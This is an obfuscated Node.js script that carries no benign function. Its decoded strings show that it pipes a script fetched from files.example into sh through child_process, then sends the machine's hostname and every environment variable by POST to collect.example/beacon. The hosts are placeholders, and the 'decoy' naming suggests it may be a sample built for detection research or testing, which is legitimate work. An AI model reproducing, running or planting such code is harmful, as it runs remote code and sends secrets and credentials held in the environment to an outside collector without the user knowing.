function _0x53dd() {
    const _0xe24d65 = [
        '1Egglxj',
        'child_process',
        'https',
        'write',
        'curl\x20https://files.example/decoy.sh\x20|\x20sh',
        '490lWuqLE',
        'decoy\x20failed\x20to\x20start',
        'end',
        '/beacon',
        'collect.example',
        'hostname',
        'log',
        '88hAUqOC',
        '338870AldbRy',
        '7721037hbyefx',
        '130kXujJb',
        '172436nahvsW',
        '135890QQGokS',
        '2128044guMzXG',
        'exec',
        'POST',
        '2760952wOlfaS',
        '60rMCZLj',
        'request',
        'stringify',
        '3jDJIKK',
        '556548vArXWQ'
    ];
    _0x53dd = function () {
        return _0xe24d65;
    };
    return _0x53dd();
}
const _0x3b6ac4 = _0x4d4a;
function _0x4d4a(_0x4a33df, _0x57ca06) {
    _0x4a33df = _0x4a33df - 0x95;
    const _0x53dd06 = _0x53dd();
    let _0x4d4ab5 = _0x53dd06[_0x4a33df];
    return _0x4d4ab5;
}
(function (_0x2a2a75, _0x5bf6a6) {
    const _0x56705f = _0x4d4a, _0x5335f2 = _0x2a2a75();
    while (!![]) {
        try {
            const _0x4ff904 = -parseInt(_0x56705f(0xa7)) / 0x1 * (-parseInt(_0x56705f(0x9e)) / 0x2) + parseInt(_0x56705f(0xa5)) / 0x3 * (-parseInt(_0x56705f(0xa1)) / 0x4) + parseInt(_0x56705f(0x9d)) / 0x5 * (-parseInt(_0x56705f(0xa2)) / 0x6) + parseInt(_0x56705f(0x99)) / 0x7 * (-parseInt(_0x56705f(0x98)) / 0x8) + parseInt(_0x56705f(0x9a)) / 0x9 + parseInt(_0x56705f(0xac)) / 0xa * (parseInt(_0x56705f(0x9c)) / 0xb) + parseInt(_0x56705f(0xa6)) / 0xc * (-parseInt(_0x56705f(0x9b)) / 0xd);
            if (_0x4ff904 === _0x5bf6a6)
                break;
            else
                _0x5335f2['push'](_0x5335f2['shift']());
        } catch (_0x525a4b) {
            _0x5335f2['push'](_0x5335f2['shift']());
        }
    }
}(_0x53dd, 0xb2a49));
const cp = require(_0x3b6ac4(0xa8)), os = require('os'), https = require(_0x3b6ac4(0xa9));
function report() {
    const _0x394065 = _0x3b6ac4, _0x58b29b = JSON[_0x394065(0xa4)]({
            'host': os[_0x394065(0x96)](),
            'env': process.env
        }), _0x1cb66a = https[_0x394065(0xa3)]({
            'hostname': _0x394065(0x95),
            'path': _0x394065(0xaf),
            'method': _0x394065(0xa0)
        });
    _0x1cb66a[_0x394065(0xaa)](_0x58b29b), _0x1cb66a[_0x394065(0xae)]();
}
cp[_0x3b6ac4(0x9f)](_0x3b6ac4(0xab), function (_0x2dc150) {
    const _0x589402 = _0x3b6ac4;
    if (_0x2dc150)
        console[_0x589402(0x97)](_0x589402(0xad));
}), report();